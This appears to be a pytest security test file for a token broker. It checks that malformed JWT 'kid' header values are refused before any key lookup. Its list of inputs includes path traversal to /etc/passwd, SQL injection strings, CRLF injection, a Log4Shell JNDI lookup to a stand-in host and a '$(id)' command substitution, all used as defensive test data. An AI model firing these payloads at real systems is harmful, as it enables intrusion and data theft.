"""Attacks row 8: a `kid` that is a path, a query, a line of a log, or no key id at all."""

import pytest

from tests.attacks.outbound import watching_outside
from tests.attacks.presenting import Present
from tests.attacks.refusals import LOG, assert_refused
from tests.running_broker import RunningBroker

UNUSABLE = [
    "../../../../dev/null",
    "..",
    "/etc/passwd/..",
    "k1' OR 1=1--",
    "k1' UNION SELECT 'key",
    "k1\r\nSET x 1\r\n",
    "k1\n",
    "k1\x00",
    "k1\x1b[31mred",
    "k1\u202etxt",
    "k1\u0085",
    "${jndi:ldap://evil.example/a}",
    "$(id)",
    "k 1",
    "k" * 257,
    "k" * 10_000,
    "",
    0,
    1,
    1.5,
    True,
    [],
    ["k1"],
    {"k": 1},
]


@pytest.mark.parametrize("key_id", UNUSABLE, ids=range(len(UNUSABLE)))
def test_an_unusable_kid_is_refused_before_anything_is_looked_up(
    live_broker: RunningBroker, key_id: object
) -> None:
    token = live_broker.github_token(header={"kid": key_id})

    with watching_outside(live_broker) as outside:
        response = live_broker.exchange(token)

    assert_refused(live_broker, response, "malformed_token")
    assert outside.contacted == []
    assert not any(path in ("/dev/null", "/etc/passwd") for path in outside.opened)
    if isinstance(key_id, str) and len(key_id) > 3:
        assert key_id not in response.text
        assert key_id not in LOG.text()


@pytest.mark.parametrize("header", [{"kid": None}, {"kid": None, "KID": "k1"}])
def test_a_token_without_kid_is_refused_and_not_tried_with_every_key(
    live_broker: RunningBroker, present: Present, header: dict[str, object]
) -> None:
    token = live_broker.github_token(header=header)

    assert_refused(live_broker, present(live_broker, token), "malformed_token")


def test_a_kid_is_compared_exactly(live_broker: RunningBroker) -> None:
    known = live_broker.github.key_id
    near = [
        known.upper(),
        known[:-1],
        known + "0",
        f"{known}/",
        f"./{known}",
        known.replace("-", ""),
    ]

    for key_id in near:
        token = live_broker.github_token(header={"kid": key_id})
        assert_refused(live_broker, live_broker.exchange(token), "key_not_found")


def test_a_kid_of_every_harmless_sign_is_looked_up_and_not_found(
    live_broker: RunningBroker, present: Present
) -> None:
    token = live_broker.github_token(header={"kid": "https://ci.example/k_1~a+b=:@x.y-Z"})

    assert_refused(live_broker, present(live_broker, token), "key_not_found")
